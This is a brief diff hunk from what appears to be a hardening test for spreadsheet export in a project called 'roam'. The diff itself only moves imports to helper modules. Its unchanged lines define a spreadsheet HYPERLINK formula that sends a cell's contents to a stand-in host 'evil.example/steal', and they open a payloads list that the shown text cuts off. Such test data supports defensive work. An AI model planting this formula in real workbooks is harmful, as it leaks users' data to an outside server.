@@ -23,9 +23,9 @@ from openpyxl import load_workbook
 from roam.assessment.loader import load_assessment
 from roam.assessment.storage import save_assessment
 from roam.framework.loader import load_framework
-from tests.conftest import MINI_FRAMEWORK
-from tests.exchange.conftest import run
 from tests.hardening.test_hostile_export import _hostile_assessment
+from tests.helpers.exchange_workbooks import run
+from tests.helpers.files import MINI_FRAMEWORK
 
 LINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")'
 PAYLOADS = [
